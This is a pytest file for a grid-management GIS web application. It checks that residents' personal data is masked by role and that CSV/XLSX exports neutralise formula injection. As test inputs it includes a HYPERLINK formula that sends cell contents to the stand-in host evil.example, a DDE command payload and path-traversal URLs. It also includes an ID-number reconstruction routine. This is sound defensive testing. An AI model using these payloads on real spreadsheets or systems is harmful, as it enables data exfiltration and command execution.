"""Residents' data does not leak: cached map pages only through their routes, no ID number
rebuilt from a birth date, actors masked, party members' homes for admins only, no live
formula in any spreadsheet — and the README's field-by-field access table is what every
role really gets."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date, timedelta
from pathlib import Path

import pandas as pd
import pyogrio
import pytest
from openpyxl import load_workbook
from pydantic import ValidationError
from sqlalchemy import text

from geo.access.privacy import mask_actor, mask_id_number, mask_name, mask_phone
from geo.core.settings import PROJECT_ROOT, Settings, get_settings
from geo.core.spreadsheet import safe_cell
from geo.planning.importer import import_boundaries
from tests.conftest import auth, sector_surface_points
from tests.test_boundary_import import sector_layer

ROLES = ("admin", "planner", "patrol", "grid_worker", "official", "supervisor")
NON_ADMINS = ROLES[1:]
#: a formula a spreadsheet would run, the way an attacker would name a unit
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看 click")'
ACTOR = "planner:李建国"


def rows(engine, sql: str, **params) -> list:
    with engine.connect() as conn:
        return conn.execute(text(sql), params).all()


#: who reads, when not the session's tokens: role → Authorization header
VIEWERS: dict[str, dict[str, str]] = {}


def headers_of(role: str) -> dict[str, str]:
    return VIEWERS.get(role) or auth(role)


@pytest.fixture
def viewers(fresh_engine):
    """A token per role on a private database, the grid worker's scoped to the sector with
    the most households and key-population cases (the session's grid worker serves a
    sector without households)."""
    from geo.access.roles import create_token

    with fresh_engine.begin() as conn:
        sector = conn.execute(
            text(
                "SELECT h.sector_code FROM households h GROUP BY 1 ORDER BY (SELECT count(*) "
                "FROM incidents i WHERE i.sector_code = h.sector_code "
                "AND i.category = 'key_population') DESC, count(*) DESC LIMIT 1"
            )
        ).scalar_one()
        token = create_token(conn, "grid_worker", "网格员甲", scope=[sector])
    VIEWERS["grid_worker"] = {"Authorization": f"Bearer {token}"}
    yield sector
    VIEWERS.clear()


#: a person's actor, written into a case's history as the issue found it
WORKER_ACTOR = "grid_worker:郑娟桂"


def named_case(engine) -> str:
    """A case patrols may see, with a contact and assigned workers, whose history gets an
    event by a named grid worker; returns its id."""
    with engine.begin() as conn:
        incident, status = conn.execute(
            text(
                """SELECT i.id, i.status FROM incidents i
                   JOIN incident_categories c ON c.code = i.category
                   WHERE NOT c.sensitive AND i.reporter_contact <> ''
                     AND cardinality(i.assigned_to) > 0
                   ORDER BY i.id LIMIT 1"""
            )
        ).one()
        conn.execute(
            text(
                "INSERT INTO incident_events (incident_id, at, actor, kind, from_status, "
                "to_status, note) VALUES (:id, now(), :actor, 'note', :s, :s, '已到场')"
            ),
            {"id": incident, "actor": WORKER_ACTOR, "s": status},
        )
    return incident


def features(client, path: str, role: str, **params) -> list[dict] | None:
    """Every feature of a paged `/api/...` list as `role` sees it (None: no access)."""
    found, after = [], None
    while True:
        response = client.get(
            path,
            params={**params, "limit": 1000, **({"after": after} if after else {})},
            headers=headers_of(role),
        )
        if response.status_code == 403:
            return None
        assert response.status_code == 200, response.text
        body = response.json()
        found += body["features"]
        after = next((link["href"] for link in body["links"] if link["rel"] == "next"), None)
        if after is None:
            return found
        after = re.search(r"after=([^&]+)", after).group(1)


# -- 1. cached map pages ----------------------------------------------------------------


def test_the_map_cache_lies_in_gridmap_home_and_never_under_static(monkeypatch):
    monkeypatch.delenv("GRIDMAP_MAP_CACHE_DIR", raising=False)
    settings = Settings()
    assert settings.map_cache_dir == settings.home / "map-cache"
    with pytest.raises(ValidationError, match="public static"):
        Settings(map_cache_dir=PROJECT_ROOT / "static" / "maps" / "cache")
    with pytest.raises(ValidationError, match="public static"):
        Settings(map_cache_dir=PROJECT_ROOT / "static")


def test_a_cached_map_page_is_reachable_only_through_its_route(client, monkeypatch):
    monkeypatch.delenv("GRIDMAP_MAP_CACHE_DIR", raising=False)
    get_settings.cache_clear()
    try:
        folder = get_settings().map_cache_dir
        url = "/maps/incidents?category=key_population"
        first = client.get(url, headers={**auth("admin"), "Accept-Encoding": "identity"})
        again = client.get(url, headers={**auth("admin"), "Accept-Encoding": "identity"})
    finally:
        get_settings.cache_clear()
    assert first.status_code == again.status_code == 200
    assert again.headers["x-map-cache"] == "hit"
    etag = first.headers["etag"].strip('"')
    [stored] = [p for p in folder.glob("incidents/*.html") if p.read_bytes() == first.content]
    assert etag not in stored.name and stored.stem not in etag, "the ETag names the file"
    # every way in without a token: the page's own route, and static URLs guessed from the
    # file's real name and from the ETag
    guesses = [
        url,
        f"/static/maps/cache/incidents/{stored.name}",
        f"/static/maps/cache/incidents/{stored.stem}.html.gz",
        f"/static/maps/cache/incidents/{etag}.html",
        f"/static/maps/cache/{stored.name}",
        f"/static/maps/{stored.name}",
        f"/static/{stored.name}",
        f"/static/map-cache/incidents/{stored.name}",
        f"/static/maps/vendor/../cache/incidents/{stored.name}",
        f"/static/web/../maps/cache/incidents/{stored.name}",
        "/static/maps/cache/",
        "/static/",
    ]
    for guess in guesses:
        response = client.get(guess, headers={"Accept-Encoding": "identity"})
        assert response.status_code in (401, 404), guess
        assert first.content not in response.content, guess
    anonymous = client.get(url, headers={"If-None-Match": first.headers["etag"]})
    assert anonymous.status_code == 401
    # the assets the pages need are still public
    assert client.get("/static/web/gridmap.css").status_code == 200
    assert client.get("/static/maps/vendor/manifest.json").status_code == 200


# -- 2. no ID number rebuilt --------------------------------------------------------------

_WEIGHTS = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2]


def _check_digit(first17: str) -> str:
    return "10X98765432"[sum(int(d) * w for d, w in zip(first17, _WEIGHTS, strict=True)) % 11]


def id_candidates(masked: str, region: str, published: dict) -> list[str]:
    """Every ID number (GB 11643) consistent with what a caller was given: the masked ID
    (first four and last four digits), the district's region code, and the birth date or
    year the record shows."""
    if "birth_date" in published and published["birth_date"]:
        births = [date.fromisoformat(str(published["birth_date"])[:10])]
    else:
        year = int(published["birth_year"])
        day, births = date(year, 1, 1), []
        while day.year == year:
            births.append(day)
            day += timedelta(days=1)
    assert region.startswith(masked[:4])
    found = []
    for birth in births:
        first17 = f"{region}{birth:%Y%m%d}{masked[-4:-1]}"
        if _check_digit(first17) == masked[-1]:
            found.append(first17 + masked[-1])
    return found


def test_no_resident_id_number_can_be_rebuilt_from_what_a_grid_worker_gets(
    fresh_client, fresh_engine, viewers
):
    client, seeded_engine = fresh_client, fresh_engine
    shown = features(client, "/api/residents", "grid_worker")
    assert shown, "the grid worker sees the residents of their grids"
    truth = {
        r.id: r
        for r in rows(
            seeded_engine,
            "SELECT id, id_number, birth_date FROM residents WHERE id = ANY(:ids)",
            ids=[f["id"] for f in shown],
        )
    }
    region = get_settings().district_code
    for feature in shown:
        props, real = feature["properties"], truth[feature["id"]]
        assert "birth_date" not in props, "the full birth date rebuilds the ID"
        assert props["birth_year"] == real.birth_date.year
        assert props["id_number"] == mask_id_number(real.id_number)
        candidates = id_candidates(props["id_number"], region, props)
        assert real.id_number in candidates and len(candidates) >= 2, feature["id"]
    # with the date, as an admin gets it, the same arithmetic gives the one real number
    admin = features(
        client, "/api/residents", "admin", sector=shown[0]["properties"]["sector_code"]
    )
    one = admin[0]["properties"]
    assert id_candidates(mask_id_number(one["id_number"]), region, one) == [one["id_number"]]


def _text_of(response) -> str:
    """What a reader of a download sees: XLSX sheets, GeoPackage attributes, or the text."""
    kind = response.headers.get("content-type", "")
    if "spreadsheetml" in kind:
        with zipfile.ZipFile(io.BytesIO(response.content)) as book:
            return " ".join(book.read(n).decode() for n in book.namelist() if n.endswith(".xml"))
    if "geopackage" in kind:
        frame = pyogrio.read_dataframe(io.BytesIO(response.content))
        return frame.drop(columns="geometry").to_csv()
    return response.text


def test_no_non_admin_output_carries_a_whole_id_number_phone_or_birth_date(
    fresh_client, fresh_engine, viewers
):
    client, seeded_engine = fresh_client, fresh_engine
    ids = {r[0] for r in rows(seeded_engine, "SELECT id_number FROM residents")}
    phones = {r[0] for r in rows(seeded_engine, "SELECT phone FROM residents WHERE phone <> ''")}
    phones |= {r[0] for r in rows(seeded_engine, "SELECT phone FROM resources WHERE phone <> ''")}
    phones |= {
        r[0]
        for r in rows(
            seeded_engine, "SELECT reporter_contact FROM incidents WHERE reporter_contact <> ''"
        )
    }
    births = {f"{r[0]:%Y-%m-%d}" for r in rows(seeded_engine, "SELECT birth_date FROM residents")}
    outputs = [
        "/api/residents?limit=1000",
        "/api/resources?limit=1000",
        "/api/incidents?limit=1000",
        "/ogc/collections/resources/items?limit=1000",
        "/ogc/collections/incidents/items?limit=1000",
        "/api/coverage?level=sector&format=csv",
        "/api/coverage?level=sector&format=xlsx",
        "/api/coverage?level=sector&format=gpkg",
        "/maps/coverage",
        "/maps/hotspots",
        "/maps/incidents",
    ]
    seen = 0
    for role in NON_ADMINS:
        for path in outputs:
            response = client.get(path, headers={**headers_of(role), "Accept-Encoding": "identity"})
            if response.status_code in (403, 404):
                continue
            assert response.status_code == 200, (role, path, response.text[:300])
            body = _text_of(response)
            seen += 1
            assert not set(re.findall(r"\d{17}[\dX]", body)) & ids, (role, path)
            assert not set(re.findall(r"1\d{10}", body)) & phones, (role, path)
            if path.startswith("/api/residents"):
                assert not set(re.findall(r"\d{4}-\d\d-\d\d", body)) & births, (role, path)
    assert seen >= 20


# -- 3. actors ----------------------------------------------------------------------------


def test_case_history_actors_are_masked_like_the_assigned_workers(
    fresh_client, fresh_engine, viewers
):
    incident = named_case(fresh_engine)
    plain = fresh_client.get(f"/api/incidents/{incident}", headers=auth("admin")).json()
    assert WORKER_ACTOR in [e["actor"] for e in plain["history"]]
    for role in ("patrol", "grid_worker"):
        view = fresh_client.get(f"/api/incidents/{incident}", headers=headers_of(role)).json()
        assert [e["actor"] for e in view["history"]] == [
            mask_actor(e["actor"]) for e in plain["history"]
        ], role
        assert "grid_worker:郑**" in [e["actor"] for e in view["history"]]
        assert "郑娟桂" not in str(view), role
        assert [w["name_zh"] for w in view["assigned_to"]] == [
            mask_name(w["name_zh"]) for w in plain["assigned_to"]
        ]
    # the caller's own events keep their name: nobody learns anything from their own name
    mine = fresh_client.post(
        f"/api/incidents/{incident}/notes", json={"note": "复查"}, headers=auth("patrol")
    ).json()
    assert mine["history"][-1]["actor"] == "patrol:test patrol"
    assert "郑娟桂" not in str(mine)


def renamed_sector_import(engine, tmp_path: Path, name: str, actor: str = ACTOR) -> str:
    """Import a real sector file (GeoJSON) that moves one border and renames the sector
    that grows to `name`; returns that sector's code."""
    frame, (grown, _, _) = sector_layer(engine)
    frame.loc[frame["code"] == grown, "名称"] = name
    path = tmp_path / "sectors.geojson"
    frame.to_file(path, driver="GeoJSON")
    with engine.begin() as conn:
        import_boundaries(conn, path, "sector", actor, "2027 年网格调整")
    return grown


def test_boundary_change_actors_are_masked_and_officials_get_only_the_role(
    fresh_client, fresh_engine, tmp_path
):
    code = renamed_sector_import(fresh_engine, tmp_path, "新区一片")
    expected = {
        "admin": ACTOR,
        "planner": mask_actor(ACTOR),
        "patrol": mask_actor(ACTOR),
        "grid_worker": mask_actor(ACTOR),
        "official": "planner",
    }
    for role, actor in expected.items():
        log = fresh_client.get("/api/boundaries/changes", headers=auth(role)).json()
        assert log[0]["actor"] == actor, role
        one = fresh_client.get(f"/api/boundaries/changes/{log[0]['id']}", headers=auth(role))
        assert one.json()["actor"] == actor, role
        unit = fresh_client.get(f"/api/boundaries/units/{code}", headers=auth(role)).json()
        assert unit["properties"]["changed_by"] == actor, role
        history = fresh_client.get(
            f"/api/boundaries/units/{code}/history", headers=auth(role)
        ).json()
        assert history["features"][-1]["properties"]["changed_by"] == actor, role
        layer = fresh_client.get("/api/boundaries", headers=auth(role)).json()
        [mine] = [f for f in layer["features"] if f["id"] == code]
        assert mine["properties"]["changed_by"] == actor, role
        if role != "admin":
            assert "李建国" not in str(log) + one.text + str(layer), role


# -- 4. party members ---------------------------------------------------------------------


MEMBER_POINTS = (
    "SELECT count(*) FROM resources WHERE kind = 'party_member' "
    "OR (kind = 'party_org' AND subtype = 'central_household')"
)


def test_party_members_points_reach_admins_only_everyone_else_gets_counts(client, seeded_engine):
    [(members,)] = rows(seeded_engine, MEMBER_POINTS)
    [(district,)] = rows(
        seeded_engine, "SELECT code FROM units WHERE level = 'district' AND valid_to IS NULL"
    )
    [(party,)] = rows(seeded_engine, "SELECT count(*) FROM resources WHERE kind = 'party_member'")
    assert members > 1481 - 1
    for role in ROLES:
        listed = features(client, "/api/resources", role)
        hidden = [
            f
            for f in listed
            if f["properties"]["kind"] == "party_member"
            or f["properties"]["subtype"] == "central_household"
        ]
        ogc = client.get(
            "/ogc/collections/resources/items",
            params={"kind": "party_member", "limit": 1},
            headers=auth(role),
        ).json()
        central = client.get(
            "/ogc/collections/resources/items",
            params={"subtype": "central_household", "limit": 1},
            headers=auth(role),
        ).json()
        counts = client.get(f"/api/units/{district}", headers=auth(role)).json()
        assert counts["properties"]["counts"]["resources_by_kind"]["party_member"] == party
        if role == "admin":
            assert len(hidden) == members
            assert ogc["numberMatched"] + central["numberMatched"] == members
        else:
            assert hidden == [], role
            assert ogc["numberMatched"] == central["numberMatched"] == 0, role


def test_officials_get_no_personal_data_of_people_serving_the_grid(client, seeded_engine):
    people = ("grid_worker", "stationed_officer", "committee_member")
    for kind in people:
        listed = features(client, "/api/resources", "official", kind=kind)
        ogc = client.get(
            "/ogc/collections/resources/items",
            params={"kind": kind, "limit": 1000},
            headers=auth("official"),
        ).json()["features"]
        assert listed and ogc
        for f in listed + ogc:
            assert f["properties"]["name_zh"] is None and f["properties"]["phone"] is None
    planner = features(client, "/api/resources", "planner", kind="grid_worker")
    admin = {f["id"]: f for f in features(client, "/api/resources", "admin", kind="grid_worker")}
    for f in planner:
        real = admin[f["id"]]["properties"]
        assert f["properties"]["name_zh"] == mask_name(real["name_zh"]) != real["name_zh"]
        assert f["properties"]["phone"] == mask_phone(real["phone"])


# -- 5. formula injection -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("官北沟", "官北沟"),
        ("a=b", "a=b"),
        (-1, -1),
        (None, None),
    ],
)
def test_cells_that_start_a_formula_are_neutralised(value, shown):
    assert safe_cell(value) == shown


def test_a_unit_renamed_to_a_formula_by_an_import_is_text_in_every_spreadsheet(
    fresh_client, fresh_engine, tmp_path
):
    code = renamed_sector_import(fresh_engine, tmp_path, HYPERLINK)
    csv = fresh_client.get("/api/coverage?level=sector&format=csv", headers=auth("official"))
    assert csv.status_code == 200
    table = pd.read_csv(io.BytesIO(csv.content), encoding="utf-8-sig", dtype=str)
    names = table[[c for c in table.columns if c.startswith("名称")][0]]
    assert "'" + HYPERLINK in names.tolist()
    for cell in table.to_numpy().ravel():
        assert not (isinstance(cell, str) and cell.startswith(("=", "+", "-", "@", "\t", "\r")))
    xlsx = fresh_client.get("/api/coverage?level=sector&format=xlsx", headers=auth("official"))
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a live formula"
    named = [c for c in cells if isinstance(c.value, str) and HYPERLINK in c.value]
    assert named and {(c.data_type, c.value) for c in named} == {("s", "'" + HYPERLINK)}
    assert any(c.value == code for c in cells)
    numbers = [c for c in cells if c.data_type == "n" and c.value is not None]
    assert numbers, "numbers stay numbers"


def test_rejected_rows_reports_neutralise_formulas_in_the_values_they_quote(
    fresh_client, fresh_engine
):
    [(x, y)] = sector_surface_points(fresh_engine, 1).tolist()
    rows_ = [
        ["编号", "名称", "类型", "经度", "纬度", "地址"],
        ["F001", "好商店", "商业门店", x, y, "西北街1号"],
        ["F002", "坏商店", "商业门店", "=cmd|' /C calc'!A0", y, "西北街2号"],
        ["F003", "-2+3", "商业门店", "@SUM(1,2)", y, "西北街3号"],
    ]
    data = pd.DataFrame(rows_[1:], columns=rows_[0]).to_csv(index=False).encode()
    response = fresh_client.post(
        "/api/imports/businesses",
        params={"format": "csv"},
        headers=auth("admin"),
        files={"file": ("shops.csv", data)},
        data={"skip_invalid": "true"},
    )
    assert response.status_code == 200, response.text
    report = pd.read_csv(io.StringIO(response.text.lstrip("\ufeff")), dtype=str)
    values = report["value"].dropna().tolist()
    assert "'=cmd|' /C calc'!A0" in values and "'@SUM(1,2)" in values
    for cell in report.to_numpy().ravel():
        assert not (isinstance(cell, str) and cell.startswith(("=", "+", "-", "@", "\t", "\r")))


# -- the README's table -------------------------------------------------------------------

README = (Path(__file__).resolve().parent.parent / "README.md").read_text(encoding="utf-8")


def access_table() -> dict[str, dict[str, str]]:
    """The README's field-by-field table: field → role → what it says."""
    section = README.split("### What each role sees, field by field", 1)[1]
    body = section.split("\n|", 1)[1]
    lines = ("|" + body.split("\n\n", 1)[0]).splitlines()  # the first table only
    header = [c.strip() for c in lines[0].strip("|").split("|")]
    assert header[1:] == list(ROLES)
    table = {}
    for line in lines[2:]:
        cells = [c.strip() for c in line.strip("|").split("|")]
        table[re.match(r"`([^`]+)`", cells[0]).group(1)] = dict(zip(ROLES, cells[1:], strict=True))
    return table


def classify(real, shown, mask) -> str | None:
    """How `shown` relates to the stored `real` (None: nothing stored, nothing to tell)."""
    if real in (None, ""):
        return None
    if shown == real:
        return "full"
    if shown is None and real is not None:
        return "withheld"
    if shown == mask(real):
        return "masked"
    return f"unexpected {shown!r}"


def observed(client, engine, role: str, sector: str, incident: str) -> dict[str, str]:
    """What `role` really gets of each field of the README's table."""
    out: dict[str, str] = {}

    # residents: the grid worker's sector, compared with the admin's copy
    shown = features(client, "/api/residents", role, sector=sector)
    plain = {
        f["id"]: f["properties"] for f in features(client, "/api/residents", "admin", sector=sector)
    }
    for field, mask in (("name", mask_name), ("phone", mask_phone), ("id_number", mask_id_number)):
        if shown is None:
            out[f"residents.{field}"] = "—"
            continue
        kinds = {classify(plain[f["id"]][field], f["properties"][field], mask) for f in shown}
        out[f"residents.{field}"] = "/".join(sorted(kinds - {None}))
    if shown is None:
        out["residents.birth_date"] = "—"
    else:
        forms = set()
        for f in shown:
            real = plain[f["id"]]["birth_date"]
            if f["properties"].get("birth_date") == real:
                forms.add("full")
            elif f["properties"].get("birth_year") == int(real[:4]):
                forms.add("year")
            else:
                forms.add(f"unexpected {f['properties']}")
        out["residents.birth_date"] = "/".join(sorted(forms))

    # people serving the grid
    real_people = {
        f["id"]: f["properties"]
        for f in features(client, "/api/resources", "admin", kind="grid_worker")
    }
    people = features(client, "/api/resources", role, kind="grid_worker")
    for field, mask in (("name_zh", mask_name), ("phone", mask_phone)):
        kinds = {
            classify(real_people[f["id"]][field], f["properties"][field], mask) for f in people
        }
        out[f"resources.{field}"] = "/".join(sorted(kinds - {None}))

    # party members
    members = features(client, "/api/resources", role, kind="party_member")
    [(district,)] = rows(
        engine, "SELECT code FROM units WHERE level = 'district' AND valid_to IS NULL"
    )
    counted = client.get(f"/api/units/{district}", headers=headers_of(role)).json()
    by_kind = counted["properties"]["counts"]["resources_by_kind"]
    out["party_members"] = "points" if members else ("counts" if by_kind["party_member"] else "—")

    # one case with a contact, workers and a named history, visible to patrols
    real_case = client.get(f"/api/incidents/{incident}", headers=auth("admin")).json()
    case = client.get(f"/api/incidents/{incident}", headers=headers_of(role))
    if case.status_code == 403:
        for key in ("reporter_contact", "assigned_to", "history.actor"):
            out[f"incidents.{key}"] = "—"
    else:
        case = case.json()
        out["incidents.reporter_contact"] = classify(
            real_case["reporter_contact"], case["reporter_contact"], mask_phone
        )
        out["incidents.assigned_to"] = "/".join(
            sorted(
                {
                    classify(r["name_zh"], s["name_zh"], mask_name)
                    for r, s in zip(real_case["assigned_to"], case["assigned_to"], strict=True)
                }
            )
        )
        named = [
            (r["actor"], s["actor"])
            for r, s in zip(real_case["history"], case["history"], strict=True)
            if r["actor"] == WORKER_ACTOR
        ]
        out["incidents.history.actor"] = "/".join(
            sorted({classify(r, s, mask_actor) for r, s in named})
        )

    # boundary change actor (the test gives the database one change by a named planner)
    change = client.get("/api/boundaries/changes", headers=headers_of(role)).json()[0]["actor"]
    if change == ACTOR:
        out["boundary_changes.actor"] = "full"
    elif change == mask_actor(ACTOR):
        out["boundary_changes.actor"] = "masked"
    elif change == ACTOR.split(":")[0]:
        out["boundary_changes.actor"] = "role"
    else:
        out["boundary_changes.actor"] = f"unexpected {change!r}"

    # key-population cases
    [(total,)] = rows(engine, "SELECT count(*) FROM incidents WHERE category = 'key_population'")
    response = client.get(
        "/ogc/collections/incidents/items",
        params={"category": "key_population", "limit": 1},
        headers=headers_of(role),
    )
    if response.status_code == 404:
        out["incidents.key_population"] = "—"
    else:
        matched = response.json()["numberMatched"]
        out["incidents.key_population"] = (
            "all" if matched == total else "none" if matched == 0 else "own grids"
        )
    return out


def test_the_readme_access_table_is_what_each_role_really_gets(
    fresh_client, fresh_engine, viewers, tmp_path
):
    renamed_sector_import(fresh_engine, tmp_path, "新区一片")
    incident = named_case(fresh_engine)
    table = access_table()
    for role in ROLES:
        got = observed(fresh_client, fresh_engine, role, viewers, incident)
        assert set(got) == set(table), "every field of the table is checked, and only those"
        said = {field: cells[role] for field, cells in table.items()}
        assert got == said, role


def test_every_spreadsheet_writer_goes_through_the_one_safe_function():
    """No CSV or XLSX is written but through `geo.core.spreadsheet` (geo/core/bulk.py's COPY
    feeds the database, not a person; an import report's `to_csv` is `spreadsheet.to_csv`)."""
    root = Path(__file__).resolve().parent.parent
    writers = re.compile(r"\.to_csv\(|csv\.writer\(|\.to_excel\(|ExcelWriter\(|Workbook\(")
    allowed = {root / "geo" / "core" / "spreadsheet.py", root / "geo" / "core" / "bulk.py"}
    report = re.compile(r"\b(report|result)\.to_csv\(")  # ImportReport.to_csv: safe_cell
    found = [
        f"{path.relative_to(root)}:{n}"
        for folder in ("geo", "api")
        for path in sorted((root / folder).rglob("*.py"))
        if path not in allowed
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if writers.search(line) and "spreadsheet." not in line and not report.search(line)
    ]
    assert found == [], "write spreadsheets with geo.core.spreadsheet (to_csv, to_xlsx, write_csv)"
